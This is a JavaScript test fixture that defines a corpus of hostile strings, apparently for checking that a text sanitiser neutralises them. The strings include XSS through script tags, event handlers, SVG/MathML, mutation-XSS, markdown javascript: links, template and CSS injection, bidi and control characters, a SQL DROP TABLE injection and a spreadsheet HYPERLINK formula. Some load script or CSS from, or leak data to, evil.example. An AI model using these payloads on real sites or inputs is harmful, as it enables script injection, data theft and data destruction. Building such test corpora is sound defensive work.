/**
 * Texts that try to become something else: page, script, style, link, template, another reading order. Whoever adds one
 * lets it call `hurt()`, which the watch counts. One line each, short enough for a title.
 */

/** Where a text would break out of its place. */
const tags = [
  '<script>hurt(1)</script>',
  '<ScRiPt>hurt(2)</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">hurt(3)</script>',
  '"><script>hurt(4)</script>',
  "'><script>hurt(5)</script>",
  '</textarea><script>hurt(6)</script>',
  '</title><script>hurt(7)</script>',
  '--><script>hurt(8)</script><!--',
  ']]><script>hurt(9)</script>',
  '<scr<script>ipt>hurt(10)</scr</script>ipt>',
  '<iframe src="javascript:hurt(11)"></iframe>',
  '<iframe srcdoc="<script>parent.hurt(12)</script>"></iframe>',
  '<object data="javascript:hurt(13)"></object>',
  '<embed src="data:text/html,<script>hurt(14)</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hurt(15)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="javascript:hurt(16)"><button>go</button></form>',
  '<template><script>hurt(17)</script></template>',
];

const handlers = [
  '<img src=x onerror=hurt(20)>',
  '<img src=x onerror="hurt(21)">',
  "<img src='x' onerror='hurt(22)'>",
  '<img/src=x/onerror=hurt(23)>',
  '<IMG SRC=x OnErRoR=hurt(24)>',
  '<img src=x onerror\n=hurt(25)>'.replace('\n', ' '),
  '<body onload=hurt(26)>',
  '<input autofocus onfocus=hurt(27)>',
  '<details open ontoggle=hurt(28)><summary>x</summary></details>',
  '<marquee onstart=hurt(29)>x</marquee>',
  '<video><source onerror=hurt(30)></video>',
  '<audio src=x onerror=hurt(31)></audio>',
  '<div style="animation-name:x" onanimationstart=hurt(32)>x</div>',
  '<a onmouseover=hurt(33)>over here</a>',
  '<button autofocus onfocus=hurt(34)>x</button>',
  '" onfocus="hurt(35)" autofocus="',
  "' onmouseover='hurt(36)' x='",
  '` onload=`hurt(37)',
];

const svgAndMath = [
  '<svg onload=hurt(40)>',
  '<svg><script>hurt(41)</script></svg>',
  '<svg><animate onbegin=hurt(42) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hurt(43)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hurt(44)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=hurt(45)></foreignObject></svg>',
  '<svg><set attributeName=href to=javascript:hurt(46)>',
  '<math><mtext><script>hurt(47)</script></mtext></math>',
  '<math href="javascript:hurt(48)">x</math>',
];

/** Texts that a sanitiser makes dangerous by putting them right. */
const mutating = [
  '<noscript><p title="</noscript><img src=x onerror=hurt(50)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hurt(51)>',
  '<svg></p><style><a id="</style><img src=x onerror=hurt(52)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt(53)>',
  '<xmp><p title="</xmp><img src=x onerror=hurt(54)>">',
  '&lt;img src=x onerror=hurt(55)&gt;',
  '&amp;lt;script&amp;gt;hurt(56)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;hurt(57)&#60;/script&#62;',
  '\\u003cscript\\u003ehurt(58)\\u003c/script\\u003e',
  '%3Cscript%3Ehurt(59)%3C/script%3E',
];

/** Markdown that would make a link run something, or a picture fetch something. */
const markdown = [
  '[press](javascript:hurt(60))',
  '[press](JaVaScRiPt:hurt(61))',
  '[press](java&#x0A;script:hurt(62))',
  '[press](data:text/html;base64,PHNjcmlwdD5odXJ0KDYzKTwvc2NyaXB0Pg==)',
  '[press](vbscript:hurt(64))',
  '<javascript:hurt(65)>',
  '![p](https://evil.example/pixel.png)',
  '![p](x" onerror="hurt(66))',
  '[a]: javascript:hurt(67) "t"',
  '[press](file:///etc/passwd)',
  '`<img src=x onerror=hurt(68)>`',
  '**<svg onload=hurt(69)>**',
];

const templates = [
  '{{constructor.constructor("hurt(70)")()}}',
  '${hurt(71)}',
  '{@html "<img src=x onerror=hurt(72)>"}',
  '#{hurt(73)}',
  '<%= hurt(74) %>',
  '#eval("hurt(75)") #import "/etc/passwd"',
  '__proto__',
  'constructor',
  '{"toString":"hurt(76)"}',
];

const style = [
  '</style><style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:hurt(80))">x</div>',
  'color:red;}body{display:none',
  'url("https://evil.example/?leak")',
];

/** Signs that hide, end or turn a text. */
const signs = [
  '\u202egnp.exe\u202c invoice',
  '\u2066\u202e<script>hurt(90)</script>\u2069',
  'zero\u200bwidth\u200cjoin\u200dmark\ufeff',
  'null\u0000<script>hurt(91)</script>',
  'bell\u0007 escape\u001b[31m red',
  '\u2028hurt(92)\u2029',
  'marks \u{e000}<img src=x onerror=hurt(93)>\u{e001} of search',
  '\u{1f9c1}\u{1f468}\u200d\u{1f373} Z͑ͫa͒l̈́g̽o <b>cake</b>',
  "Robert'); DROP TABLE contractor;--",
  '=HYPERLINK("https://evil.example","press")',
  '"; hurt(94); //',
];

export const corpus = [...tags, ...handlers, ...svgAndMath, ...mutating, ...markdown, ...templates, ...style, ...signs];

/** Invisible signs that the core takes out of a line of text. */
const UNSEEN = /[\p{Cc}\p{Cf}\p{Co}\p{Zl}\p{Zp}]/u;

/** Whether the core keeps a text letter by letter. */
export const isKeptWhole = (text) => !UNSEEN.test(text);
